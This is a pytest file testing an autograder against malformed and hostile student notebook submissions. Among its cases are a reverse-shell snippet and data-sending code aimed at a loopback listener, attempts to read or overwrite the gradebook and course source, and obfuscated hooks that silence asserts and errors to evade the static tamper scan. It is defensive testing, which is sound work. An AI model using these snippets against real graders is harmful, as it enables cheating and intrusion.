"""The corpus of broken and hostile submissions: each one graded right or reported, nothing lost.

Two real modules are graded with one submission per case, in one batch per module, the way an
instructor grades a class. Each case states its expected outcome: ``graded`` with the exact
score the student's answers earn, or ``attention`` with words of the one-line reason. Every
batch also checks: submissions in = graded + needs attention, every problem names its student
and file, and the gradebook and the grades of the other students stay intact.

The isolation cases (reading ``source/`` or the gradebook, writing outside the working folder,
a process that outlives its kernel) need kernels to be shut in (``autograder.sandbox``: as root,
or in a user namespace); where they cannot be, they are skipped, as the README says. Run as
root, the tests also grade two of them with the grader running as an unprivileged user.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode

from autograder import notebooks, sandbox
from autograder.backends import LocalPool
from autograder.course import Course
from autograder.forkserver import Limits
from autograder.grade import GradeReport, grade
from conftest import REPO, give, run_as, warm_cache

M01, M05 = "01-what-is-medical-coding", "05-outpatient-and-professional-coding"
LIMITS = Limits(memory_mb=1024, cpu_seconds=5)  # the solved notebooks need under 1 s; a loop burns all 5
ISOLATED = sandbox.available()


@dataclass(frozen=True)
class Case:
    """One submission: how to build it from the solved notebook, and what must come of it."""

    name: str
    build: Callable[[Path, str, NotebookNode], None]
    outcome: str  # "graded" or "attention"
    lost: tuple[str, ...] = ()  # graded: exercises whose points the answers do not earn
    reason: str = ""  # attention: words of the reason; graded: words of the repair note
    isolation: bool = False


QUIET_ASSERTS = ("import ast\nfrom operator import attrgetter\n"
                 "class Quiet(ast.NodeTransformer):\n"
                 "    def visit_Assert(self, node):\n        return ast.Pass()\n"
                 "shell = globals()['get_' + 'ipython']()\n"
                 "attrgetter('ast_' + 'transformers')(shell).append(Quiet())")
"""Removes every assert of the cells after it, by a route the static scan does not read."""
FORGIVE = ("from operator import attrgetter\nshell = globals()['get_' + 'ipython']()\n"
           "def forgive(result):\n    result.error_in_exec = None\n"
           "attrgetter('events')(shell).register('post_run_' + 'cell', forgive)")
"""An IPython post-run hook that clears each cell's error, by a route the static scan does not read."""
QUIET_PRINT = "home = globals()['__buil' + 'tins__']\nsetattr(home, 'pri' + 'nt', lambda *a, **k: None)"
"""Silences print, by a route the static scan does not read."""


# ---- building submissions -------------------------------------------------------------------

def solved(assignment: str) -> NotebookNode:
    """The release notebook with every answer cell holding the solution."""
    source = notebooks.read(Course.at(REPO).notebook_path(assignment))
    answers = {gid: notebooks.solution_text(c.source) for gid, c in notebooks.answer_cells(source).items()}
    nb = notebooks.read(Course.at(REPO).notebook_path(assignment, "release"))
    for gid, cell in notebooks.answer_cells(nb).items():
        cell.source = answers[gid]
    return nb


def index(nb: NotebookNode, gid: str) -> int:
    """The position of the cell with grade id ``gid``."""
    return next(i for i, c in enumerate(nb.cells) if notebooks.nbgrader_meta(c).get("grade_id") == gid)


def write(folder: Path, assignment: str, nb: NotebookNode, name: str = "") -> None:
    """Save ``nb`` as the student's notebook in ``folder``."""
    notebooks.write(nb, folder / (name or f"{assignment}.ipynb"))


def raw(data: bytes) -> Callable[[Path, str, NotebookNode], None]:
    """A case whose notebook file holds ``data``."""
    def build(folder: Path, assignment: str, nb: NotebookNode) -> None:
        folder.mkdir(parents=True)
        (folder / f"{assignment}.ipynb").write_bytes(data)
    return build


def edited(change: Callable[[NotebookNode], None]) -> Callable[[Path, str, NotebookNode], None]:
    """A case whose notebook is the solved one changed by ``change``."""
    def build(folder: Path, assignment: str, nb: NotebookNode) -> None:
        change(nb)
        write(folder, assignment, nb)
    return build


def answer(gid: str, code: str, keep: bool = True) -> Callable[[NotebookNode], None]:
    """Put ``code`` before (``keep``) or instead of the answer in cell ``gid``."""
    def change(nb: NotebookNode) -> None:
        cell = nb.cells[index(nb, gid)]
        cell.source = f"{code}\n{cell.source}" if keep else code
    return change


def stub(assignment: str, gid: str) -> Callable[[NotebookNode], None]:
    """Leave answer cell ``gid`` as released (unanswered)."""
    release = notebooks.read(Course.at(REPO).notebook_path(assignment, "release"))

    def change(nb: NotebookNode) -> None:
        nb.cells[index(nb, gid)].source = release.cells[index(release, gid)].source
    return change


def delete(gid: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        del nb.cells[index(nb, gid)]
    return change


def to_markdown(gid: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        cell = nb.cells[index(nb, gid)]
        nb.cells[index(nb, gid)] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return change


def move_test_above_answer(exercise: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        test = nb.cells.pop(index(nb, f"test_{exercise}"))
        nb.cells.insert(index(nb, f"ex_{exercise}"), test)
    return change


def duplicate_answer(exercise: str) -> Callable[[NotebookNode], None]:
    """A copy of the answer cell below it: the first copy unanswered, the last one right."""
    def change(nb: NotebookNode) -> None:
        at = index(nb, f"ex_{exercise}")
        first = nbformat.from_dict(json.loads(json.dumps(nb.cells[at])))
        first.id = "copied-cell"
        first.source = "raise NotImplementedError()"
        nb.cells.insert(at, first)
    return change


def both(*changes: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        for step in changes:
            step(nb)
    return change


def with_files(files: dict[str, bytes], notebook_at: str = "") -> Callable[[Path, str, NotebookNode], None]:
    """A folder holding ``files`` and, unless ``notebook_at`` is "-", the solved notebook."""
    def build(folder: Path, assignment: str, nb: NotebookNode) -> None:
        for name, data in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)
        if notebook_at != "-":
            write(folder, assignment, nb, notebook_at)
    return build


def probe(target: str, attempt: str) -> Callable[[NotebookNode], None]:
    """Module 01's ``answer_format`` set right only if ``attempt`` on ``target`` fails (OSError).

    The path is put together at run time from pieces, so the static tamper scan does not see
    it: these cases test the sandbox alone.
    """
    code = (f'import os\nparts = {target.split("/")!r}\ntarget = "/".join(parts)\ntry:\n    {attempt}\n'
            f'    answer_format = "A"\nexcept OSError:\n    answer_format = "B"')
    return answer("ex_format_mc", code, keep=False)


LOOPBACK = socket.create_server(("127.0.0.1", 0))
"""This test's own listener on loopback, where the grader's ports and other kernels would be."""


def net_probe(attempt: str) -> Callable[[NotebookNode], None]:
    """Answer the multiple-choice question "B" only if ``attempt`` fails with OSError (no network)."""
    code = (f'import socket\nPORT = {LOOPBACK.getsockname()[1]}\ntry:\n    {attempt}\n'
            f'    answer_format = "A"\nexcept OSError:\n    answer_format = "B"')
    return answer("ex_format_mc", code, keep=False)


# ---- the cases -------------------------------------------------------------------------------

def cases(assignment: str, workspace: Path) -> list[Case]:
    """Every case for module 01; a cross-section of them for module 05."""
    text = notebooks.dumps(solved(assignment)).encode()
    first, last = ("what_is_coded", "plot") if assignment == M01 else ("pos", "visits")
    everything = [
        Case("truncated-json", raw(text[: len(text) // 2]), "attention", reason="not a valid notebook"),
        Case("empty-file", raw(b""), "attention", reason="not a valid notebook"),
        Case("pdf-renamed", raw(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"), "attention",
             reason="not a valid notebook"),
        Case("png-renamed", raw(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe"), "attention",
             reason="not UTF-8"),
        Case("latin-1", raw(text.decode().replace("Set", "S\u00e9t", 1).encode("latin-1", "replace")),
             "attention", reason="not UTF-8"),
        Case("renamed-notebook", with_files({}, "homework (1).ipynb"), "graded"),
        Case("missing-notebook", with_files({"answers.pdf": b"%PDF-1.4\n"}, "-"), "attention",
             reason="no .ipynb"),
        Case("several-notebooks", with_files({"copy.ipynb": text}, "draft.ipynb"), "attention",
             reason="several notebooks"),
        Case("extra-files", with_files({"data.csv": b"a,b\n1,2\n", "screen.png": b"\x89PNG"}), "graded"),
        Case("nested-download", with_files({"__MACOSX/._x.ipynb": b"\x00"}, f"Downloads/{assignment}/"
                                           f"{assignment}.ipynb"), "graded"),
        Case("deleted-test", edited(delete(f"test_{first}")), "graded", reason="restored deleted"),
        Case("edited-test", edited(both(stub(assignment, f"ex_{first}"),
                                        answer(f"test_{first}", "pass", keep=False))),
             "graded", lost=(first,), reason="had been edited"),
        Case("answer-as-markdown", edited(to_markdown(f"ex_{first}")), "graded", reason="into markdown"),
        Case("reordered", edited(move_test_above_answer(first)), "graded", reason="out of order"),
        Case("duplicate-id", edited(duplicate_answer(first)), "graded", reason="appears 2 times"),
        Case("loop-top-level", edited(answer(f"ex_{last}", "while True:\n    pass")), "attention",
             reason="Kernel died"),
        Case("loop-in-function", edited(answer(f"ex_{last}", "def spin():\n    while True:\n        pass\n"
                                               "spin()")), "attention", reason="Kernel died"),
        Case("memory-bomb", edited(answer(f"ex_{last}", "hoard = bytearray(64 * 2**30)")), "graded",
             lost=(last,)),
        Case("os-exit", edited(answer(f"ex_{last}", "import os\nos._exit(3)")), "attention",
             reason="Kernel died"),
        Case("segfault", edited(answer(f"ex_{last}", "import ctypes\nctypes.string_at(0)")), "attention",
             reason="Kernel died"),
        Case("sys-exit", edited(answer(f"ex_{last}", "import sys\nsys.exit()")), "graded", lost=(last,)),
        Case("print-100mb", edited(answer(f"ex_{last}", 'print("x" * 100_000_000)')), "graded"),
        Case("redefine-builtin", edited(answer(f"ex_{first}", "sorted = lambda *a, **k: []")), "attention",
             reason="check for tampering"),
        Case("always-equal", edited(answer(f"ex_{first}", "class Same(str):\n    def __eq__(self, other):\n"
                                           "        return True")), "attention",
             reason="check for tampering"),
        Case("kernel-hook", edited(answer(f"ex_{first}", "get_ipython().input_transformers_cleanup.append("
                                          "lambda lines: [])")), "attention", reason="check for tampering"),
        Case("outlives-kernel", edited(answer(f"ex_{first}", "import subprocess\np = subprocess.Popen("
                                              "['sleep', '300'], start_new_session=True)\n"
                                              "open('pid.txt', 'w').write(str(p.pid))")),
             "attention", reason="check for tampering", isolation=True),
    ]
    if assignment == M01:
        course_source = str(REPO / "source" / assignment / f"{assignment}.ipynb")
        gradebook = str(workspace / "gradebook.db")
        everything += [
            Case("read-source", edited(probe(course_source, "open(target).read()")), "graded",
                 isolation=True),
            Case("read-task-source", edited(probe(f"../../../source/{assignment}/{assignment}.ipynb",
                                                  "open(target).read()")), "graded", isolation=True),
            Case("read-gradebook", edited(probe(gradebook, "open(target, 'rb').read()")), "graded",
                 isolation=True),
            Case("delete-gradebook", edited(probe(gradebook, "os.remove(target)")), "graded", isolation=True),
            Case("write-outside", edited(probe(str(REPO / "evil.txt"), "open(target, 'w').write('x')")),
                 "graded", isolation=True),
            Case("garbage-timestamp", with_files({"timestamp.txt": b"\xff\xfenot a date"}), "graded"),
            Case("swallow-assertions", edited(answer("ex_format_mc", (
                "get_ipython().set_custom_exc((AssertionError,), "
                "lambda shell, etype, value, tb, tb_offset=None: None)"))),
                "attention", reason="check for tampering"),
            Case("fake-print", edited(answer("ex_format_mc", (
                "import builtins\n_real = builtins.print\n"
                "builtins.print = lambda *a, **k: _real('Visible checks passed.')"))),
                "attention", reason="check for tampering"),
            Case("quiet-asserts", edited(answer("ex_format_mc", QUIET_ASSERTS)), "attention",
                 reason="a test cell did not run as written"),
            Case("forgiving-hook", edited(answer("ex_format_mc", FORGIVE)), "attention",
                 reason="a test cell did not run as written"),
            Case("quiet-print", edited(answer("ex_format_mc", QUIET_PRINT)), "attention",
                 reason="a test cell did not run as written"),
            Case("send-to-loopback", edited(net_probe(
                'socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"hidden tests")')),
                "graded", isolation=True),
            Case("reverse-shell", edited(net_probe(
                'conn = socket.create_connection(("127.0.0.1", PORT), timeout=2)\n    import subprocess\n    '
                'subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)')),
                "attention", reason="check for tampering", isolation=True),
            Case("bind-port", edited(answer("ex_format_mc", (
                f'import socket\nPORT = {LOOPBACK.getsockname()[1]}\ntry:\n'
                '    socket.create_server(("127.0.0.1", PORT)).close()\n    answer_format = "B"\n'
                'except OSError:\n    answer_format = "A"'), keep=False)),
                "graded", isolation=True),  # the test's own port is free only in a network of its own
            Case("network-interfaces", edited(net_probe(
                'table = "/".join(["", "proc", "net", "route"])\n    '
                'routes = open(table).read().splitlines()[1:]\n    '
                'if [name for _, name in socket.if_nameindex()] == ["lo"] and not routes:\n        '
                'raise OSError("no network")')),
                "graded", isolation=True),
        ]
    return everything


# ---- grading the corpus --------------------------------------------------------------------------

@pytest.fixture(scope="module", params=[M01, M05])
def corpus(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, pool: LocalPool):
    """Build every case of one module in one folder, grade them in one batch, keep the results."""
    assignment = request.param
    work = tmp_path_factory.mktemp(assignment)
    course = Course.at(REPO, work / "ws")
    subs = work / "subs"
    good = solved(assignment)
    write(subs / "control", assignment, good)
    chosen = [c for c in cases(assignment, course.workspace) if ISOLATED or not c.isolation]
    for case in chosen:
        case.build(subs / case.name, assignment, nbformat.from_dict(json.loads(json.dumps(good))))
    report = grade(course, assignment, subs, backend=pool, progress=False, limits=LIMITS)
    return assignment, course, subs, chosen, report


def full_points(assignment: str) -> dict[str, float]:
    points = notebooks.points(notebooks.read(Course.at(REPO).notebook_path(assignment)))
    return {gid.removeprefix("test_"): value for gid, value in points.items()}


def test_every_case_ends_as_expected(corpus) -> None:
    assignment, course, subs, chosen, report = corpus
    points = full_points(assignment)
    reasons = {p.student: p.reason for p in report.problems}
    with (course.reports(assignment) / "grades.csv").open(encoding="utf-8") as handle:
        notes = {row["student_id"]: row["reason"] for row in csv.DictReader(handle)}
    wrong = []
    for case in chosen:
        if case.outcome == "graded":
            expected = sum(points.values()) - sum(points[e] for e in case.lost)
            score = report.scores.get(case.name)
            got = score.code_score if score else reasons.get(case.name)
            if got != expected or case.reason not in notes.get(case.name, ""):
                wrong.append((case.name, f"expected {expected} ({case.reason!r})", got, notes.get(case.name)))
        elif case.reason not in reasons.get(case.name, "graded, not reported"):
            wrong.append((case.name, f"expected attention: {case.reason}", reasons.get(case.name)))
    assert wrong == []


def test_nothing_is_lost_and_nothing_is_a_silent_zero(corpus) -> None:
    assignment, course, subs, chosen, report = corpus
    handed_in = {entry.name for entry in subs.iterdir()}
    assert set(report.scores) | {p.student for p in report.problems} == handed_in
    assert not set(report.scores) & {p.student for p in report.problems}
    assert report.scores["control"].code_score == sum(full_points(assignment).values())
    with (course.reports(assignment) / "needs-attention.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["student_id"] for row in rows} == {p.student for p in report.problems}
    assert all(row["reason"] and Path(row["file"]).is_relative_to(subs / row["student_id"]) for row in rows)


def test_output_is_capped(corpus) -> None:
    assignment, course, *_ = corpus
    graded = course.workspace / "autograded" / "print-100mb" / assignment / f"{assignment}.ipynb"
    feedback = course.workspace / "feedback" / "print-100mb" / assignment / f"{assignment}.html"
    assert graded.stat().st_size < 2_000_000 and feedback.stat().st_size < 5_000_000
    assert "output truncated by the grader" in graded.read_text(encoding="utf-8")


@pytest.mark.skipif(not ISOLATED, reason="kernels are isolated only when the grader runs as root")
def test_the_gradebook_and_the_course_are_untouched(corpus) -> None:
    assignment, course, subs, chosen, report = corpus
    assert (course.workspace / "gradebook.db").exists() and not (REPO / "evil.txt").exists()
    assert report.scores["control"].code_score == sum(full_points(assignment).values())
    pid_file = course.workspace / "autograded" / "outlives-kernel" / assignment / "pid.txt"
    pid = int(pid_file.read_text())
    deadline = time.monotonic() + 10
    while _alive(pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not _alive(pid), f"process {pid} outlived its kernel"


@pytest.mark.skipif(not ISOLATED, reason="kernels are isolated only when the grader runs as root")
def test_nothing_reached_the_loopback_listener(corpus) -> None:
    LOOPBACK.settimeout(0.2)
    with pytest.raises(TimeoutError):
        LOOPBACK.accept()  # a connection that had arrived would be waiting here


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    return state != "Z"


def test_lms_file_names_and_a_resubmission(tmp_path: Path, pool: LocalPool) -> None:
    """Canvas names with spaces, unicode and ../ in the student part; then one student resubmits."""
    course = Course.at(REPO, tmp_path / "ws")
    flat = tmp_path / "canvas"
    flat.mkdir()
    good, partial = solved(M01), solved(M01)
    stub(M01, "ex_purposes")(partial)
    names = {"mary ann_101_1_01.ipynb": good, "jos\u00e9_102_2_01.ipynb": good,
             "..\\..\\etc_103_3_01.ipynb": partial, "\u674e\u96f7_104_4_01.ipynb": good}
    for name, nb in names.items():
        write(flat, M01, nb, name)
    first: GradeReport = grade(course, M01, flat, backend=pool, progress=False)
    full = sum(full_points(M01).values())
    assert first.problems == [] and len(first.scores) == 4
    partial_score = full - full_points(M01)["purposes"]
    assert sorted(s.code_score for s in first.scores.values()) == [partial_score] + [full] * 3
    assert all("/" not in sid and not sid.startswith(".") for sid in first.scores)
    (flat / "..\\..\\etc_103_3_01.ipynb").unlink()
    write(flat, M01, good, "..\\..\\etc_103_9_01.ipynb")
    second = grade(course, M01, flat, backend=pool, progress=False)
    assert len(second.skipped) == 3 and all(s.code_score == full for s in second.scores.values())
    shutil.rmtree(tmp_path / "ws")


AS_GRADER = """
import json, sys
from pathlib import Path
from autograder import sandbox
from autograder.course import Course
from autograder.grade import grade
report = grade(Course.at(sys.argv[1], sys.argv[2]), sys.argv[3], Path(sys.argv[4]), workers=1, progress=False)
print(json.dumps({"mode": sandbox.mode(), "problems": [str(p) for p in report.problems],
                  "scores": {s: v.code_score for s, v in report.scores.items()}}))
"""


def test_a_non_root_graders_kernels_cannot_read_source_or_write_the_workspace(learner) -> None:
    """The grader runs as an unprivileged user: one student reads source/, one overwrites the gradebook.

    Each answers module 01's multiple-choice question right only if its attempt fails; both get
    every point, and the gradebook they aimed at records both grades.
    """
    base = Path(tempfile.mkdtemp(prefix="mcc-corpus-", dir="/var/lib"))  # outside the scratch folders
    workspace, subs = base / "workspace", base / "subs"
    source = str(REPO / "source" / M01 / f"{M01}.ipynb")
    attempts = {"reader": probe(source, "open(target).read()"),
                "writer": probe(str(workspace / "gradebook.db"), "open(target, 'w').write('A+')")}
    for student, change in attempts.items():
        nb = solved(M01)
        change(nb)
        write(subs / student, M01, nb)
    workspace.mkdir()
    warm_cache(base)  # the grader's home: its tables built on an earlier run
    give(learner, base)
    try:
        shown = run_as(learner, base, "-c", AS_GRADER, str(REPO), str(workspace), M01, str(subs))
        seen = json.loads(shown.strip().splitlines()[-1])
    finally:
        shutil.rmtree(base)
    full = sum(full_points(M01).values())
    assert seen["mode"] == sandbox.USER_NAMESPACE
    assert seen["problems"] == [] and seen["scores"] == {"reader": full, "writer": full}
